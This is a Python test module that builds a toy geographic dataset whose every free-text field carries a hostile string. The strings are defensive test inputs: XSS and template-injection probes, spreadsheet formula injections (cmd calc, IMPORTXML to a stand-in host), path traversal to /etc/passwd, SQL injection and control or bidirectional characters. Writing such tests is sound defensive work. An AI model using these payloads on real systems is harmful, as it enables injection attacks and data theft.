"""Texts that mean harm, and a dataset with one of them in every field that holds text."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from dataclasses import fields, replace
from itertools import cycle
from pathlib import Path
from typing import Any, TypeVar

from geo.check import check
from geo.records.model import Dataset, Direction, Distance, Place
from geo.records.read import read_with_lines

TOY = Path(__file__).parent / "toy"

MARKUP: tuple[str, ...] = (
    "<script>window.hurt = true</script>",
    '<img src=x onerror="window.hurt = true">',
    "</script><script>window.hurt = true</script>",
    '"><svg onload=window.hurt=true>',
    "' onmouseover='window.hurt = true",
    "<iframe srcdoc='<script>parent.hurt = true</script>'></iframe>",
    '<a href="javascript:window.hurt=true">a</a>',
    "<style>@import 'https://hurt.invalid/a.css'; * { display: none }</style>",
    "<!-- <b>",
    "--><script>window.hurt = true</script>",
    "]]><script>window.hurt = true</script>",
    "</textarea></title></style></noscript><script>window.hurt = true</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=true>",
    "&lt;script&gt;window.hurt = true&lt;/script&gt;",
    "&amp; &#60;b&#62; &copy; &unknown;",
    "javascript:window.hurt=true",
    "data:text/html,<script>window.hurt=true</script>",
    "\\u003cscript\\u003ewindow.hurt=true\\u003c/script\\u003e",
    "`; window.hurt = true; `",
    '"; window.hurt = true; //',
    "'); window.hurt = true; ('",
    '\\"}; window.hurt = true; //',
)
"""HTML, XML, scripts, and ways out of the quotes around them."""

TEMPLATES: tuple[str, ...] = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ constructor.constructor('window.hurt=true')() }}",
    "${window.hurt=true}",
    "#{7*7} <%= 7*7 %> $[name]",
    "{0} {place} %s %n %(name)s {!r}",
    '#eval("1+1") #image("/etc/passwd") $ x $ *b* _i_ @ref <label>',
    "**b** [a](javascript:window.hurt=true) ![i](https://hurt.invalid/i.png) :material/home: :red[x] $x^2$",
)
"""Syntax of templates, format strings, typesetting and Markdown."""

FORMULAS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("https://hurt.invalid","click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "'=1+1",
    "''=1+1",
    "a;=1+1;b",
    '"=1+1"',
    '",=1+1,"',
    '=IMPORTXML(CONCAT("https://hurt.invalid/?", A1), "//a")',
    "-12.5",
    "+93 70 000 0000",
    "_x0041_ _x005F_x0041_",
)
"""What a spreadsheet would compute, fetch or start; and what only looks like it."""

LETTERS: tuple[str, ...] = (
    "a\u202egnp.exe",
    "\u2066\u202bשלום\u202c\u2069 abc",
    "a\u200b\u200d\u200e\ufeffb",
    "e\u0301\u0301\u0301\u0301 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319",
    "پنجشیر ‌می‌گوید",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇦🇫",
    "\ufffe\uffff\ufdd0",
    "𝕳𝖚𝖗𝖙 \U0010ffff",
    "NULL",
    "null",
    "nan",
    "None",
    "-inf",
    "TRUE",
    "1e309",
    "007",
    "2021-13-45",
    "a|b",
    "a\\|b",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
)
"""Scripts of both directions, signs without width, words that mean "nothing" elsewhere, paths, SQL."""

LONG: tuple[str, ...] = ("long " * 8_000 + "end", "W" * 40_000)
"""More than a cell of a spreadsheet holds."""

LINES: tuple[str, ...] = (
    "first\n=1+1",
    "first\r\nsecond",
    "a\tb",
    "\t=1+1",
    "\r=1+1",
    "a\u2028b\u2029c\x85d",
)
"""More than one line: a record of a data folder has none of these, a file that a reader brings may."""

CONTROLS: tuple[str, ...] = ("a\x00b", "\x00", "a\x1b[31mred", "a\x08\x0b\x0cb", "a\x7f\x9bb")
"""Characters that XML forbids or terminals obey."""

PAYLOADS: tuple[str, ...] = (*MARKUP, *TEMPLATES, *FORMULAS, *LETTERS, *LONG, *LINES, *CONTROLS)
"""All of them. A file that a reader brings may have any in any field of text."""


def fits_a_record(text: str) -> bool:
    """Whether the cell of a data folder may hold the text: one line, no control character, no space at its ends."""
    one_line = text == text.strip() and len(text.splitlines()) == 1
    return one_line and not any(unicodedata.category(letter) == "Cc" for letter in text)


RECORD_PAYLOADS: tuple[str, ...] = tuple(text for text in PAYLOADS if fits_a_record(text))
"""Those that a data folder may hold."""

TEXTS: dict[str, tuple[str, ...]] = {
    "sides": ("name", "short_name", "name_fa", "note"),
    "actors": ("name", "name_fa", "aliases", "note"),
    "reports": (
        *("file", "agency", "headline", "author", "language", "url"),
        *("dating_basis", "alternative_basis", "note"),
    ),
    "paragraphs": ("first_words", "note"),
    "places": (
        *("name", "name_fa", "name_ps", "spellings"),
        *("position_note", "position_source", "elevation_source", "note"),
    ),
    "outlines": ("name", "name_fa"),
    "claims": (
        *("speaker", "role", "relayed_by", "hedge", "place_printed"),
        *("date_basis", "paraphrase", "note"),
    ),
    "events": ("title", "place_printed", "origin_printed", "date_basis", "note"),
    "mentions": ("speaker", "role", "relayed_by", "hedge", "paraphrase", "note"),
    "figures": ("speaker", "wording", "note"),
    "links": ("note",),
    "distances": ("from_printed", "to_printed", "wording", "note"),
    "questions": ("question", "part", "words", "note"),
}
"""The fields of each table of a dataset that hold free text."""

FEW_WORDS = {"first_words", "wording"}
"""At most five words stand in these."""
WITH_ALTERNATIVE_ONLY = "alternative_basis"
"""May only be filled in where there is an alternative."""

Record = TypeVar("Record")


def hostile_dataset(payload: str | None = None, texts: Iterator[str] | None = None) -> Dataset:
    """The toy dataset with a payload in every field of text: this one, the next of ``texts``, or each in turn.

    Ids, closed lists, days and numbers stay, so that ``geo.check`` finds nothing wrong with it. Names and spellings
    of places end in the words of the place's id, for no two places may share one; every day is one of its own;
    ``payload`` must fit a record.
    """
    dataset = _with_a_distance(read_with_lines(TOY)[0])
    texts = texts or cycle((payload,) if payload is not None else RECORD_PAYLOADS)
    parts: dict[str, Any] = {}
    for table, names in TEXTS.items():
        records = getattr(dataset, table)
        parts[table] = {key: _spoiled(record, names, texts) for key, record in records.items()}
    return replace(dataset, title=next(texts), caveat=next(texts), **parts)


def faults(dataset: Dataset) -> tuple[str, ...]:
    """What ``geo.check`` says of a dataset that has the records of the toy folder."""
    lines = read_with_lines(TOY)[1]
    return tuple(str(p) for p in check(dataset, {**lines, ("distances.csv", "d-01"): 2}))


def texts_of(dataset: Dataset) -> Iterator[tuple[str, str, str]]:
    """Table, field and text of every field of free text that is not empty; lists item by item."""
    for table, names in TEXTS.items():
        for record in getattr(dataset, table).values():
            for name in names:
                value = getattr(record, name)
                for text in value if isinstance(value, tuple) else (value,):
                    if text:
                        yield table, name, text


def _with_a_distance(dataset: Dataset) -> Dataset:
    """The toy folder has no printed distance; one makes every table present."""
    distance = Distance(
        distance_id="d-01",
        report_id="herald-sunday",
        paragraph=2,
        claimant_id="herald",
        from_ids=("brell",),
        from_printed="Brell",
        to_ids=("lower-dunn",),
        to_printed="Lower Dunn",
        direction=Direction.NORTH_EAST,
        figure_id="",
        wording="to the north-east",
        note="",
    )
    return replace(dataset, distances={"d-01": distance})


def _spoiled(record: Record, names: tuple[str, ...], texts: Iterator[str]) -> Record:
    assert {field.name for field in fields(record)} >= set(names)  # type: ignore[arg-type]
    changed: dict[str, Any] = {}
    for name in names:
        if name == WITH_ALTERNATIVE_ONLY and not getattr(record, "alternative", None):
            continue
        text = next(texts)
        if name in FEW_WORDS:
            text = " ".join(text.split()[:5])
        changed[name] = text
        if isinstance(record, Place) and name in {"name", "name_fa", "name_ps", "spellings"}:
            changed[name] = f"{text} {name} {record.place_id.replace('-', ' ')}"
        if name == "date_basis":
            changed[name] = f"{text} A day of its own."
        if isinstance(getattr(record, name), tuple):
            items = [part.strip() for part in text.split("|") if part.strip()]  # an item is never empty
            changed[name] = (changed[name],) if isinstance(record, Place) else tuple(items)
    return replace(record, **changed)  # type: ignore[type-var]
